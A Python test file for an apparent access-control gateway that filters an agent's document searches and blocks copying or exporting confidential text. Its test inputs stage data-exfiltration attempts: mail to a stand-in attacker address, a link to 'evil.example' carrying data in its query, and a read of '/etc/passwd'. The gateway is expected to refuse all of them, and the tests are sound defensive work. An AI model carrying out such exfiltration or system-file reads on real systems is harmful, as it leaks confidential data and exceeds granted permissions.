"""Documents and labelled data at the gateway: lists sifted, copies and exports refused (R51, R127)."""

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from remit.authority.rights import Constraint, Right
from remit.identity.tools import DataSet, DocumentMapping
from support.clients import called
from support.gateway import modern, modern_headers
from support.library import PAPERS, RULES, Library, library, rights

SETS = DocumentMapping(
    sets=(
        DataSet(name="wiki", prefix="file:///wiki/"),
        DataSet(name="payroll", prefix="file:///wiki/payroll/"),
    )
)
SIFTED = (
    (
        '@id("all") permit (principal, action, resource)'
        ' unless { action == Remit::Action::"library/documents.retrieve"'
        ' || action == Remit::Action::"library/search" };'
        '@id("search") @obligation("drop_documents list=/results id=/id tags=/tags")'
        ' permit (principal, action == Remit::Action::"library/search", resource);'
    )
    + RULES.partition('@id("phoenix")')[1]
    + RULES.partition('@id("phoenix")')[2]
)
BOUND = """
@id("all") permit (principal, action, resource) unless { action == Remit::Action::"library/search" };
@id("viewer") @obligation("summarize_only; no_export; label sensitivity=confidential")
permit (principal, action == Remit::Action::"library/search", resource);
"""
TEXT = "The merger with Northwind closes in the third quarter at nine hundred million and is not public."


@pytest.fixture
async def shelf(tmp_path: Path) -> AsyncIterator[Library]:
    async with library(tmp_path / "data", documents=SETS) as found:
        yield found


class Run:
    """A task of mail-bot with a token for each server."""

    def __init__(self, shelf: Library, task: str, tokens: dict[str, str]) -> None:
        self.shelf = shelf
        self.task = task
        self.tokens = tokens

    @classmethod
    async def begin(cls, shelf: Library, *more: Right, constraints: tuple[Constraint, ...] = ()) -> "Run":
        limit = shelf.house.ceiling(*rights(*more, constraints=constraints), days=20)
        started = await shelf.begin(limit=limit)
        bot = shelf.house["mail-bot"]
        tokens = {
            name: await shelf.house.exchange(bot, started.envelope, server=name)
            for name in ("business", "library")
        }
        return cls(shelf, started.task.id, tokens)

    async def search(self) -> Any:
        found = await self.shelf.house.call(
            self.shelf.house["mail-bot"],
            self.tokens["library"],
            "search",
            {"query": "phoenix"},
            server="library",
        )
        return found.result

    async def mail(self, to: str, body: str) -> Any:
        told = {"to": to, "subject": "News", "body": body}
        house = self.shelf.house
        return (await house.call(house["mail-bot"], self.tokens["business"], "mail_send", told)).result

    async def ask(self, method: str, **params: Any) -> Any:
        house, token = self.shelf.house, self.tokens["library"]
        url = f"{house.issuer}/mcp/library"
        headers = {
            **modern_headers(method, params.get("uri", "")),
            "Authorization": f"DPoP {token}",
            "DPoP": house["mail-bot"].proof("POST", url, token),
            "Content-Type": "application/json",
            "Accept": "application/json, text/event-stream",
        }
        reply = await house.http.post(url, content=json.dumps(modern(method, params)), headers=headers)
        return called(reply).body


def _code(result: Any) -> str:
    return str(result["_meta"]["dev.remit/denial"]["code"])


def _found(shelf: Library, *, structured: bool) -> None:
    told = {"results": [{**each, "text": "…"} for each in PAPERS] + [{"id": "odd"}], "total": len(PAPERS)}
    text = {"content": [{"type": "text", "text": json.dumps(told)}]}
    shelf.upstream.result = {**text, "structuredContent": told} if structured else text


@pytest.mark.req("R55", "R131")
@pytest.mark.parametrize("structured", [True, False])
async def test_a_list_in_a_result_holds_what_may_be_seen(shelf: Library, structured: bool) -> None:
    await shelf.house.policy(SIFTED)
    run = await Run.begin(shelf)
    _found(shelf, structured=structured)
    result = await run.search()
    told = json.loads(result["content"][0]["text"])
    assert [each["id"] for each in told["results"]] == ["plan", "notes"]
    assert "total" not in told, "a count beside the list would tell of the others"
    assert "board" not in json.dumps(result)
    if structured:
        assert result["structuredContent"] == told
    sources = await shelf.house.work.read(
        lambda tx: tx.sources.page(run.task, before=None, after="", limit=10)
    )
    assert {each.name for _, each in sources} == {"Document:plan", "Document:notes", "Catalogue:all"}


async def test_a_result_that_is_no_such_list_is_withheld(shelf: Library) -> None:
    await shelf.house.policy(SIFTED)
    run = await Run.begin(shelf)
    shelf.upstream.result = {"content": [{"type": "text", "text": "board: the merger is on"}]}
    assert "merger" not in json.dumps(await run.search())


@pytest.mark.req("R51")
async def test_a_viewer_summarizes_and_neither_copies_nor_exports(shelf: Library) -> None:
    await shelf.house.policy(BOUND)
    run = await Run.begin(shelf)
    assert (await run.mail("eve@evil.example", "hello")).get("isError") is False, "nothing was read yet"
    shelf.upstream.result = {"content": [{"type": "text", "text": TEXT}]}
    assert TEXT in json.dumps(await run.search()), "a viewer reads it"
    assert (await run.mail("lead@company.com", "Northwind will be ours in autumn.")).get("isError") is False
    assert _code(await run.mail("lead@company.com", f"As told: {TEXT.upper()}")) == "lineage_copy"
    assert _code(await run.mail("eve@evil.example", "Northwind will be ours.")) == "lineage_export"
    assert _code(await run.mail("lead@company.com", "see https://evil.example/?q=n")) == "lineage_export"
    denied = (await shelf.house.services.decisions.page(limit=1))[0].explanation
    assert denied.labels == ("no-export", "sensitivity=confidential", "summarize-only")
    explained = denied.verdict.reasons[0].sentence
    assert "`Catalogue:all`" in explained
    other = await Run.begin(shelf)
    assert (await other.mail("eve@evil.example", TEXT)).get("isError") is False, (
        "another task, another context"
    )


@pytest.mark.req("R127")
async def test_only_the_data_sets_of_the_task_are_listed_and_fetched(shelf: Library) -> None:
    await shelf.house.policy('@id("all") permit (principal, action, resource);')
    wiki = Constraint(pointer="/dataset", one_of=frozenset({"wiki"}))
    reading = Right(
        action="library/resources.read", resource_type="Resource", resources="any", constraints=(wiki,)
    )
    run = await Run.begin(shelf, reading)
    uris = ["file:///wiki/start", "file:///wiki/payroll/2026", "file:///etc/passwd"]
    shelf.upstream.result = {"resources": [{"uri": each, "name": each} for each in uris]}
    listed = (await run.ask("resources/list"))["result"]
    assert [each["uri"] for each in listed["resources"]] == ["file:///wiki/start"]
    shelf.upstream.result = {
        "resourceTemplates": [{"uriTemplate": f"{each}/{{x}}", "name": each} for each in uris]
    }
    templates = (await run.ask("resources/templates/list"))["result"]["resourceTemplates"]
    assert [each["name"] for each in templates] == ["file:///wiki/start"]
    shelf.upstream.result = {"contents": [{"uri": "file:///wiki/start", "text": "hello"}]}
    assert "result" in await run.ask("resources/read", uri="file:///wiki/start")
    for hidden in uris[1:]:
        refused = (await run.ask("resources/read", uri=hidden))["error"]["data"]["dev.remit/denial"]
        assert refused["code"] == "argument_outside"
